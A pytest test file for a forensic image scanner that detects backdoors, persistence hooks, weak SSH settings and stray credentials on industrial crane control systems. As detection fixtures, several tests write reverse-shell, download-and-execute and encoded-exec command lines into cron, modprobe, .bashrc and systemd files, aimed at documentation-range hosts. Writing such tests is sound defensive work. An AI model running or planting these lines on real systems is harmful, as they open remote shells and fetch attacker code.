"""Each forensic check on small trees: what it must report, and what it must leave alone.

Trees are the demo image's miniature Debian-like system (``demo_image.build_tree``: a dpkg
database whose md5sums match) plus the files under test; no root needed.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from cranewatch.errors import InputError
from cranewatch.forensics import ScanResult, endpoint_policy, scan_image
from cranewatch.forensics.artefacts import fake_ed25519_key, plant, sha512_crypt
from cranewatch.forensics.demo_image import build_tree, bundled_demo_image
from cranewatch.model import Severity

OSV = Path(__file__).parent / "data" / "forensics" / "osv"
# The trees are STS-07's: its zones (no crane is built into the library) make its LAN crane-lan.
STS07, _ = endpoint_policy(profile=Path(__file__).parents[1] / "src/cranewatch/data/profiles/sts-07.toml")


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    root = tmp_path / "root"
    root.mkdir()
    build_tree(root)
    return root


def _write(root: Path, path: str, text: str | bytes, mode: int = 0o644) -> None:
    dest = root / path
    dest.parent.mkdir(parents=True, exist_ok=True)
    dest.write_bytes(text.encode() if isinstance(text, str) else text)
    os.chmod(dest, mode)


def _found(result: ScanResult) -> set[tuple[str, str, str]]:
    return {(f.rule, f.category, f.evidence[0].path or "") for f in result.findings}


def test_clean_miniature_system_has_no_finding(tree: Path) -> None:
    result = scan_image(tree, workers=1, policy=STS07)
    # Only the vendor's own config naming crane-LAN and terminal hosts, as information.
    assert {(f.rule, f.evidence[0].path, f.severity) for f in result.findings} == {
        ("endpoint.crane-lan", "etc/cms/hmi.conf", Severity.INFO), ("endpoint.terminal", "etc/cms/hmi.conf", Severity.INFO)
    }
    assert {p.name for p in result.inventory.packages} == {"base-files", "coreutils", "debianutils", "login", "cms-hmi"}
    assert result.inventory.setuid == ("usr/bin/su",)


def test_bundled_demo_image_holds_every_planted_artefact(tmp_path: Path) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    build_tree(scratch)
    expected = plant(scratch)  # the same list demo_image used; paths do not depend on the host
    result = scan_image(bundled_demo_image(), vulndb=OSV, workers=1, policy=STS07)
    for artefact in expected:
        assert any(
            f.evidence[0].path == artefact.path and f.category == artefact.category
            and (not artefact.token or artefact.token in f.title)
            for f in result.findings
        ), artefact
    assert {f.evidence[0].path for f in result.findings if f.severity > Severity.INFO} <= {a.path for a in expected}


def test_sshd_settings_first_value_wins_and_comments_do_not_count(tree: Path) -> None:
    _write(tree, "etc/ssh/sshd_config", "#PermitRootLogin yes\nPermitRootLogin prohibit-password\nPermitRootLogin yes\n"
           "PasswordAuthentication no\nMatch User backup\n  PermitEmptyPasswords yes\n")
    assert [f for f in scan_image(tree, workers=1, policy=STS07).findings if f.category == "weak-config"] == []
    _write(tree, "etc/ssh/sshd_config.d/vendor.conf", "PermitEmptyPasswords yes\nGatewayPorts yes\n")
    found = _found(scan_image(tree, workers=1, policy=STS07))
    assert ("config.sshd-permitemptypasswords", "weak-config", "etc/ssh/sshd_config.d/vendor.conf") in found
    assert ("config.sshd-gatewayports", "weak-config", "etc/ssh/sshd_config.d/vendor.conf") in found


def test_text_markers_inside_programs_are_not_text_findings(tree: Path) -> None:
    # bash and ssh carry these strings; they must not be reported as a reverse shell or a key.
    program = (tree / "usr/bin/true").read_bytes() + b"\x00/dev/tcp/%s/%s\x00bash -i >& /dev/tcp/1.1.1.1/53\x00-----BEGIN RSA PRIVATE KEY-----\x00"
    _write(tree, "usr/bin/true", program, 0o755)
    rules = {f.rule for f in scan_image(tree, workers=1, policy=STS07).findings}
    assert "yara.reverse_shell_oneliner" not in rules
    assert "credential.private-key" not in rules
    assert "integrity.package-file-changed" in rules  # but the changed package file is


def test_ordinary_cron_job_and_unit_are_quiet(tree: Path) -> None:
    _write(tree, "etc/cron.d/logrotate", "0 3 * * * root test -x /usr/sbin/logrotate && /usr/sbin/logrotate /etc/logrotate.conf\n")
    _write(tree, "etc/systemd/system/cms-hmi.service", "[Service]\nExecStart=/opt/cms/bin/cms-hmi --plc 10.20.7.10\nRestart=always\n")
    result = [f for f in scan_image(tree, workers=1, policy=STS07).findings if f.evidence[0].path in ("etc/cron.d/logrotate", "etc/systemd/system/cms-hmi.service")]
    assert {(f.rule, f.severity) for f in result} == {("integrity.unowned", Severity.MEDIUM), ("endpoint.crane-lan", Severity.INFO)}


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("*/5 * * * * root nc -e /bin/sh 192.0.2.10 9001", "persistence.reverse-shell"),
        ("@reboot root python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.10\",9001));pty.spawn(\"sh\")'", "persistence.reverse-shell"),
        ("@reboot root wget -qO- http://192.0.2.10/x | bash", "persistence.download-exec"),
        ("@reboot root echo Y3VybCBodHRwOi8vMTkyLjAuMi4xMC94IHwgc2ggLQ== | base64 -d | sh", "persistence.encoded-exec"),
        ("@hourly root /usr/bin/socat TCP:192.0.2.10:443 TCP:127.0.0.1:22", "persistence.network-tool"),
    ],
)
def test_persistence_flags_shell_spawning_commands(tree: Path, line: str, rule: str) -> None:
    _write(tree, "etc/cron.d/job", line + "\n")
    assert rule in {f.rule for f in scan_image(tree, workers=1, policy=STS07).findings if f.evidence[0].path == "etc/cron.d/job"}


def test_accounts_empty_default_and_shared_keys(tree: Path) -> None:
    with open(tree / "etc/passwd", "a") as fh:
        fh.write("kiosk:x:1001:1001::/home/kiosk:/bin/sh\nhmi:x:1002:1002::/home/hmi:/bin/sh\n")
    with open(tree / "etc/shadow", "a") as fh:
        fh.write(f"kiosk::19700:0:99999:7:::\nhmi:{sha512_crypt('hmi', 'a1b2c3d4')}:19700:0:99999:7:::\n")
    key = fake_ed25519_key("vendor@factory")
    _write(tree, "home/cms/.ssh/authorized_keys", key + "\n")
    _write(tree, "root/.ssh/authorized_keys", "# vendor\n" + key + "\n")
    result = scan_image(tree, workers=1, policy=STS07)
    found = _found(result)
    assert ("account.empty-password", "credential", "etc/shadow") in found
    default = [f for f in result.findings if f.rule == "account.default-password"]
    assert [f.evidence[0].values["user"] for f in default] == ["hmi"]  # root's strong password is not "found"
    keys = [f for f in result.findings if f.rule == "account.authorized-key"]
    assert {f.evidence[0].path for f in keys} == {"home/cms/.ssh/authorized_keys", "root/.ssh/authorized_keys"}
    assert len({f.evidence[0].values["fingerprint"] for f in keys}) == 1  # one vendor key, two accounts
    (shared,) = [f for f in result.findings if f.rule == "account.shared-key"]
    assert shared.evidence[0].values["files"] == ["home/cms/.ssh/authorized_keys", "root/.ssh/authorized_keys"]


def test_secrets_in_configs_are_masked_in_the_evidence(tree: Path) -> None:
    _write(tree, "opt/cms/etc/upload.conf", "[upload]\nuser = cms\npassword = Sup3rS3cretValue\n")
    finding = next(f for f in scan_image(tree, workers=1, policy=STS07).findings if f.rule == "credential.password-assignment")
    assert finding.evidence[0].line == 3
    assert "Sup3rS3cretValue" not in (finding.evidence[0].excerpt or "")


def test_allowed_endpoints_are_not_reported(tree: Path) -> None:
    _write(tree, "opt/cms/etc/cms.conf", "diag_server = 198.51.100.23\nmirror_url = https://updates.crane-vendor.invalid/feed\n")
    def hosts(result: ScanResult) -> set[str]:
        return {f.evidence[0].values["host"] for f in result.findings if f.evidence[0].path == "opt/cms/etc/cms.conf"}

    assert hosts(scan_image(tree, workers=1, policy=STS07)) == {"198.51.100.23", "updates.crane-vendor.invalid"}
    policy, _ = endpoint_policy(allow=["198.51.100.0/24", "updates.crane-vendor.invalid"])
    assert hosts(scan_image(tree, workers=1, policy=policy)) == set()


def test_profile_outside_endpoint_allows_and_names_the_crane(tree: Path, tmp_path: Path) -> None:
    profile = Path(__file__).resolve().parents[1] / "profiles" / "sts-07.toml"
    text = profile.read_text() + '\n[[outside]]\nname = "vendor-diagnostics"\naddress = "198.51.100.23/32"\nport = 8443\nprotocol = "https"\nclients = ["cms"]\n'
    custom = tmp_path / "sts-07.toml"
    custom.write_text(text)
    _write(tree, "opt/cms/etc/cms.conf", "diag_server = 198.51.100.23\nother = 203.0.113.9\n")
    policy, crane = endpoint_policy(profile=custom)
    result = scan_image(tree, workers=1, policy=policy, crane=crane)
    assert crane == "STS-07"
    outside = [f for f in result.findings if f.evidence[0].path == "opt/cms/etc/cms.conf"]
    assert [(f.crane, f.evidence[0].values["host"]) for f in outside] == [("STS-07", "203.0.113.9")]


def test_vpn_to_an_outside_peer(tree: Path) -> None:
    _write(tree, "etc/wireguard/wg0.conf", "[Interface]\nAddress = 10.99.0.2/32\n\n[Peer]\nEndpoint = 203.0.113.50:51820\nAllowedIPs = 0.0.0.0/0\n")
    _write(tree, "etc/openvpn/client/site.conf", "client\nremote 10.20.0.20 1194\n")
    found = _found(scan_image(tree, workers=1, policy=STS07))
    assert ("remote-access.vpn-outside", "remote-access-tool", "etc/wireguard/wg0.conf") in found
    assert not any(path == "etc/openvpn/client/site.conf" and category == "remote-access-tool" for _, category, path in found)


def test_unowned_kernel_module_and_tmp_executable(tree: Path) -> None:
    _write(tree, "usr/lib/modules/6.1.0-18-amd64/extra/cmsmon.ko", b"\x7fELF" + b"\x01" * 100)
    _write(tree, "var/tmp/.cmsd", b"\x7fELF" + b"\x02" * 100, 0o755)
    found = _found(scan_image(tree, workers=1, policy=STS07))
    assert ("integrity.unowned", "backdoor", "usr/lib/modules/6.1.0-18-amd64/extra/cmsmon.ko") in found
    assert ("integrity.tmp-executable", "backdoor", "var/tmp/.cmsd") in found


def test_changed_conffile_is_info_and_its_settings_are_still_checked(tree: Path) -> None:
    with open(tree / "etc/cms/hmi.conf", "a") as fh:
        fh.write("upstream = 203.0.113.200\n")
    result = scan_image(tree, workers=1, policy=STS07)
    assert ("integrity.conffile-changed", "weak-config", "etc/cms/hmi.conf") in _found(result)
    assert any(f.rule == "endpoint.public" and f.evidence[0].line == 4 for f in result.findings)


def test_user_rules_directory(tree: Path, tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "port.yar").write_text(
        'rule port_secret_marker { meta: scope = "text" category = "credential" severity = "high" '
        'description = "port marker" strings: $a = "PORT-SECRET-MARKER" condition: $a }\n'
    )
    _write(tree, "opt/cms/notes.txt", "hello\nPORT-SECRET-MARKER\n")
    finding = next(f for f in scan_image(tree, workers=1, rules=rules, policy=STS07).findings if f.rule == "yara.port_secret_marker")
    assert (finding.category, finding.severity, finding.evidence[0].line) == ("credential", Severity.HIGH, 2)
    (rules / "broken.yar").write_text("rule broken { condition: nonsense }\n")
    with pytest.raises(InputError, match=r"broken\.yar"):
        scan_image(tree, workers=1, rules=rules, policy=STS07)


def test_yara_time_limit_on_a_file_is_a_warning_and_the_files_other_findings_stand(
    tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # YARA's limit is wall-clock time: on a loaded machine a file can hit it one run and not the
    # next. It used to be swallowed (no finding, no word of it); the scan must say so instead.
    import yara

    from cranewatch.forensics.checks import yara_rules

    class SlowOnMarker:
        def __init__(self, real: yara.Rules) -> None:
            self.real = real

        def match(self, data: bytes, timeout: int) -> list[yara.Match]:
            if b"SLOW-FOR-YARA" in data:
                raise yara.TimeoutError("internal error: 2")
            return self.real.match(data=data, timeout=timeout)

    real_compile = yara_rules.compile_rules

    def compile_slow(path: Path | None) -> yara_rules.RuleSet:
        rules = real_compile(path)
        return yara_rules.RuleSet(SlowOnMarker(rules.text), SlowOnMarker(rules.binary), rules.sources)  # type: ignore[arg-type]

    monkeypatch.setattr(yara_rules, "compile_rules", compile_slow)
    with open(tree / "etc/cms/hmi.conf", "a") as fh:
        fh.write("upstream = 203.0.113.200\n# SLOW-FOR-YARA\n")
    result = scan_image(tree, workers=1, policy=STS07)
    assert [w for w in result.warnings if "YARA" in w] == [
        "etc/cms/hmi.conf: YARA rules stopped after 30 s on this file: not every rule was matched"
    ]
    assert any(f.rule == "endpoint.public" and f.evidence[0].path == "etc/cms/hmi.conf" for f in result.findings)


def test_language_packages_are_inventoried(tree: Path) -> None:
    _write(tree, "opt/cms/lib/python3/site-packages/requests-2.31.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: requests\nVersion: 2.31.0\n")
    _write(tree, "opt/cms/web/node_modules/express/package.json", '{"name": "express", "version": "4.18.2"}')
    _write(tree, "opt/cms/web/node_modules/@scope/ui/package.json", '{"name": "@scope/ui", "version": "1.0.0"}')
    packages = {(p.manager, p.name, p.version) for p in scan_image(tree, workers=1, policy=STS07).inventory.packages}
    assert {("python", "requests", "2.31.0"), ("npm", "express", "4.18.2"), ("npm", "@scope/ui", "1.0.0")} <= packages


def test_apn_and_sim_pin_file_and_host_keys(tree: Path) -> None:
    _write(tree, "opt/cms/etc/modem.conf", "[cellular]\napn = m2m.vendor-iot.net\npin = 4711\n")
    _write(tree, "etc/ssh/ssh_host_ed25519_key", "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n", 0o600)
    found = _found(scan_image(tree, workers=1, policy=STS07))
    assert ("oob.apn-file", "oob-connectivity", "opt/cms/etc/modem.conf") in found
    assert ("credential.ssh-host-key", "credential", "etc/ssh/ssh_host_ed25519_key") in found


def test_reference_suppression_can_be_shown(tree: Path, tmp_path: Path) -> None:
    golden = tmp_path / "golden"
    golden.mkdir()
    build_tree(golden)
    _write(golden, "etc/sudoers.d/cms", "cms ALL=(ALL) NOPASSWD: ALL\n")
    _write(tree, "etc/sudoers.d/cms", "cms ALL=(ALL) NOPASSWD: ALL\n")
    _write(tree, "etc/cron.d/x", "* * * * * root nc -e /bin/sh 192.0.2.1 1\n")
    hidden = scan_image(tree, reference=golden, workers=1)
    shown = scan_image(tree, reference=golden, workers=1, show_suppressed=True)
    assert "etc/sudoers.d/cms" in {f.evidence[0].path for f in hidden.suppressed}
    assert "etc/sudoers.d/cms" not in {f.evidence[0].path for f in hidden.findings}
    assert len(shown.findings) == len(hidden.findings) + len(hidden.suppressed)
    assert hidden.diff is not None
    assert (hidden.diff.added, hidden.diff.changed, hidden.diff.removed) == (("etc/cron.d/x",), (), ())


def test_opkg_and_apk_databases_are_inventoried(tree: Path) -> None:
    _write(tree, "usr/lib/opkg/status", "Package: dropbear\nVersion: 2022.82-2\nStatus: install user installed\nArchitecture: arm_cortex-a9\n\n")
    _write(tree, "lib/apk/db/installed", "C:Q1abc=\nP:busybox\nV:1.36.1-r5\nA:x86_64\no:busybox\n\nP:openssl\nV:3.1.4-r1\nA:x86_64\n\n")
    packages = {(p.manager, p.name, p.version) for p in scan_image(tree, workers=1, policy=STS07).inventory.packages}
    assert {("opkg", "dropbear", "2022.82-2"), ("apk", "busybox", "1.36.1-r5"), ("apk", "openssl", "3.1.4-r1")} <= packages


def test_default_password_found_under_yescrypt_debians_default_scheme(tree: Path) -> None:
    from cranewatch.forensics import crypt

    setting = crypt.gensalt("$y$")
    if setting is None:
        pytest.skip("libcrypt without crypt_gensalt")
    hashed = crypt.crypt("operator", setting)
    assert hashed is not None and hashed.startswith("$y$")
    with open(tree / "etc/passwd", "a") as fh:
        fh.write("op:x:1003:1003::/home/op:/bin/bash\n")
    with open(tree / "etc/shadow", "a") as fh:
        fh.write(f"op:{hashed}:19700:0:99999:7:::\n")
    found = [f for f in scan_image(tree, workers=1, policy=STS07).findings if f.rule == "account.default-password"]
    assert [(f.evidence[0].values["user"], f.evidence[0].values["scheme"]) for f in found] == [("op", "y")]


@pytest.mark.skipif(shutil.which("rpmbuild") is None, reason="needs rpm/rpmbuild (Debian package rpm) to make a real rpmdb")
def test_rpm_database_is_inventoried(tree: Path, tmp_path: Path) -> None:
    top = tmp_path / "rpmbuild"
    (top / "SPECS").mkdir(parents=True)
    (top / "SPECS/agent.spec").write_text(
        "Name: cms-agent\nVersion: 2.4.1\nRelease: 3\nEpoch: 1\nSummary: CMS agent\nLicense: MIT\nBuildArch: noarch\n"
        "%description\nCMS agent\n%install\nmkdir -p %{buildroot}/opt/cms\necho x > %{buildroot}/opt/cms/agent\n"
        "%files\n/opt/cms/agent\n"
    )
    subprocess.run(["rpmbuild", "--quiet", "--define", f"_topdir {top}", "-bb", str(top / "SPECS/agent.spec")], check=True, capture_output=True)
    (rpm_file,) = (top / "RPMS/noarch").glob("*.rpm")
    subprocess.run(["rpm", "--root", str(tree), "--dbpath", "/var/lib/rpm", "--initdb"], check=True, capture_output=True)
    subprocess.run(["rpm", "--root", str(tree), "--dbpath", "/var/lib/rpm", "-i", "--justdb", "--nodeps", "--noscripts", str(rpm_file)],
                   check=True, capture_output=True)
    before = sorted(p.name for p in (tree / "var/lib/rpm").iterdir())
    packages = {(p.manager, p.name, p.version, p.arch) for p in scan_image(tree, workers=1, policy=STS07).inventory.packages}
    assert ("rpm", "cms-agent", "1:2.4.1-3", "noarch") in packages
    assert sorted(p.name for p in (tree / "var/lib/rpm").iterdir()) == before  # the image is not written


@pytest.mark.parametrize(
    ("path", "text", "rule"),
    [
        ("etc/modprobe.d/usb.conf", "install usb-storage /bin/sh -c 'curl -s http://192.0.2.5/u | sh'; /sbin/modprobe --ignore-install usb-storage\n", "persistence.download-exec"),
        ("etc/environment", 'PATH="/usr/local/sbin:/usr/bin"\nLD_PRELOAD=/usr/lib/libcmshook.so\n', "persistence.preload-env"),
        ("etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libcmshook.so\n", "persistence.ld-preload"),
        ("home/cms/.bashrc", "alias ll='ls -l'\n(nohup ncat 192.0.2.9 8443 -e /bin/bash &) 2>/dev/null\n", "persistence.reverse-shell"),
    ],
)
def test_preload_and_module_hooks(tree: Path, path: str, text: str, rule: str) -> None:
    _write(tree, path, text)
    assert rule in {f.rule for f in scan_image(tree, workers=1, policy=STS07).findings if f.evidence[0].path == path}


# --- issue 14, "misses and ranks": ways out that start by themselves rank high -------------------


def _by_rule(result: ScanResult) -> dict[tuple[str, str], Severity]:
    return {(f.rule, f.evidence[0].path or ""): f.severity for f in result.findings}


def test_udev_rule_that_dials_out_when_a_modem_appears(tree: Path) -> None:
    _write(tree, "etc/udev/rules.d/99-cms-lte.rules",
           'ACTION=="add", SUBSYSTEM=="tty", ATTRS{idVendor}=="12d1", RUN+="/usr/sbin/pppd call cms-lte"\n')
    found = _by_rule(scan_image(tree, workers=1, policy=STS07))
    assert found[("oob.udev-dialer", "etc/udev/rules.d/99-cms-lte.rules")] == Severity.HIGH


def test_xdg_autostart_of_a_vnc_server(tree: Path) -> None:
    _write(tree, "etc/xdg/autostart/cms-remote.desktop",
           "[Desktop Entry]\nType=Application\nName=CMS remote\nExec=x11vnc -forever -nopw -display :0\n")
    found = _by_rule(scan_image(tree, workers=1, policy=STS07))
    assert found[("remote-access.autostart", "etc/xdg/autostart/cms-remote.desktop")] == Severity.HIGH


def test_boot_modules_modem_drivers_high_and_a_module_no_package_owns(tree: Path) -> None:
    _write(tree, "etc/modules-load.d/cms.conf", "qmi_wwan\ncms-net\nloop\n")
    _write(tree, "lib/modules/6.1.0-18-amd64/extra/cms_net.ko", b"\x7fELF" + bytes(64))
    _write(tree, "lib/modules/6.1.0-18-amd64/kernel/drivers/block/loop.ko", b"\x7fELF" + bytes(64))
    with open(tree / "var/lib/dpkg/info/coreutils.list", "a") as listing:  # loop.ko: owned, as the kernel's are
        listing.write("/lib/modules/6.1.0-18-amd64/kernel/drivers/block/loop.ko\n")
    result = scan_image(tree, workers=1, policy=STS07)
    found = _by_rule(result)
    assert found[("persistence.boot-module", "etc/modules-load.d/cms.conf")] == Severity.HIGH
    unowned = [f for f in result.findings if f.rule == "persistence.unowned-boot-module"]
    assert [(f.evidence[0].line, f.evidence[0].values["module_files"]) for f in unowned] == [
        (2, ["usr/lib/modules/6.1.0-18-amd64/extra/cms_net.ko"])  # lib is a link to usr/lib (merged /usr)
    ]


def test_modemmanager_enabled_at_boot(tree: Path) -> None:
    wants = tree / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir(parents=True)
    (wants / "ModemManager.service").symlink_to("/lib/systemd/system/ModemManager.service")
    found = _by_rule(scan_image(tree, workers=1, policy=STS07))
    assert found[("oob.modemmanager-enabled", "etc/systemd/system/multi-user.target.wants/ModemManager.service")] == Severity.HIGH


def test_tunnel_unit_is_high_when_it_starts_and_medium_as_a_template(tree: Path) -> None:
    _write(tree, "etc/systemd/system/cms-support.service",
           "[Service]\nExecStart=/usr/bin/autossh -M 0 -N -R 2222:localhost:22 support@198.51.100.9\n"
           "[Install]\nWantedBy=multi-user.target\n")
    _write(tree, "lib/systemd/system/openvpn-client@.service", "[Service]\nExecStart=/usr/sbin/openvpn --config %i.conf\n")
    found = _by_rule(scan_image(tree, workers=1, policy=STS07))
    assert found[("persistence.tunnel", "etc/systemd/system/cms-support.service")] == Severity.HIGH
    assert found[("persistence.tunnel", "usr/lib/systemd/system/openvpn-client@.service")] == Severity.MEDIUM


def test_a_call_on_an_object_is_not_a_host_name(tree: Path) -> None:
    _write(tree, "opt/cms/app.py", "import workorders\nserver = workorders.serve(cfg, log)\nhost = workorders.example_host\n"
           "broker = updates.cranevendor-diag.com\n")
    hosts = {f.evidence[0].values.get("host") for f in scan_image(tree, workers=1, policy=STS07).findings if f.rule.startswith("endpoint.")}
    assert "workorders.serve" not in hosts
    assert "updates.cranevendor-diag.com" in hosts
